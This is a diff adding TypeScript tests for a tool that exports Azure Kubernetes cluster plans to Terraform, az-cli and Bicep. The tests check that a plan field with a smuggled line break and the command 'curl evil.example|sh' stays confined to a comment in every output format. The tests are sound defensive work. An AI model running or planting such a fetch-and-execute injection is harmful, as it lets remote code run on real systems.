@@ -218,3 +218,32 @@ describe('Bicep', () => {
     expect(dual).toContain('apiServerAccessProfile: {\n      enablePrivateCluster: true\n    }');
   });
 });
+
+describe('what a plan holds cannot become code', () => {
+  const hostile: PlanInput = {
+    name: '1prod_weu_cluster',
+    network: {
+      plugin: 'azure-cni-node-subnet',
+      nodeSubnet: '10.240.0.0/24',
+      dockerBridgeCidr: '172.17.0.1/16\ncurl evil.example|sh\n#',
+    },
+    nodePools: [{ name: 'system', nodeCount: 3 }],
+  };
+
+  it.each([
+    ['terraform', '#'],
+    ['az-cli', '#'],
+    ['bicep', '//'],
+  ] as const)('%s keeps a line break of free text inside its comment', (format, marker) => {
+    const text = exported(hostile, format);
+    const lines = text.split('\n').filter((line) => line.includes('evil.example'));
+    expect(lines).toHaveLength(1);
+    expect(lines[0]?.trimStart().startsWith(marker)).toBe(true);
+  });
+
+  it('derives a DNS prefix Azure accepts from any plan name', async () => {
+    const hcl = await terraformOf(hostile);
+    expect(hcl.resource.azurerm_kubernetes_cluster.this[0].dns_prefix).toBe('aks-1prod-weu-cluster');
+    expect(exported(hostile, 'bicep')).toContain("dnsPrefix: 'aks-1prod-weu-cluster'");
+  });
+});
